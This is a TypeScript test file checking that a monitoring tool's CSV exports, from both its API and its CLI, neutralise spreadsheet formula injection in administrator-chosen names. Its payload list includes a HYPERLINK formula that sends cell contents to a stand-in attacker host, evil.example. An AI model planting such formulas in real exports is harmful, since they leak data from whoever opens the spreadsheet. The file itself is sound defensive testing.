import { createHandlers } from '../../lib/api/handlers';
import { portsFromRuntime } from '../../lib/api/runtimePorts';
import { runCli } from '../../lib/cli';
import { parseCsv } from '../support/csv';
import { labRuntime, type LabRuntime } from '../support/runtime';

/**
 * Attack: names are chosen on HCX by whoever administers it (mesh, network, appliance names) and reach CSV cells.
 * A cell that starts with = + - @ (or tab / CR) is run as a formula by spreadsheet applications.
 */
const PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A2,"open")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];

function expectNoFormulaCells(csv: string): void {
  const cells = parseCsv(csv).flat();
  // A negative whole number (a deadline's days left once it passed) is data we write, not a formula.
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+$/.test(c))).toEqual([]);
  // The names are still there, neutralised: what the operator sees is what HCX reported, behind a quote.
  expect(cells).toContain(`'${PAYLOADS[0]}`);
}

describe('CSV cells that would run as spreadsheet formulas are neutralised (lab scan, API and CLI)', () => {
  let ctx: LabRuntime;

  beforeAll(async () => {
    ctx = await labRuntime('seccsv');
    ctx.lab.updateManager('avs-legacy-neu', (m) => m.serviceMeshes.forEach((s, i) => (s.name = PAYLOADS[i % PAYLOADS.length])));
    ctx.lab.updateManager('onprem-dc2', (m) => m.extensions.forEach((x, i) => (x.networkName = PAYLOADS[(i + 1) % PAYLOADS.length])));
    ctx.lab.updateManager('onprem-dc2', (m) => m.appliances.forEach((a, i) => (a.applianceName = PAYLOADS[(i + 2) % PAYLOADS.length])));
    await ctx.rt.scan({ trigger: 'cli' });
  });
  afterAll(() => ctx.stop());

  it('GET /api/findings?format=csv', async () => {
    const res = await createHandlers(portsFromRuntime(ctx.rt)).listFindings({
      method: 'GET',
      params: {},
      query: new URLSearchParams({ format: 'csv' }),
      header: () => undefined,
      text: async () => '',
    });
    expect(res.status).toBe(200);
    expectNoFormulaCells(res.body!);
  });

  it('hcxmon findings --format csv', async () => {
    let out = '';
    const code = await runCli(['findings', '--format', 'csv'], {
      io: { stdout: { write: (t: string) => (out += t) }, stderr: { write: () => true }, env: ctx.env },
      openRuntime: async () => ctx.rt,
    });
    expect(code).toBe(0);
    expectNoFormulaCells(out);
  });
});
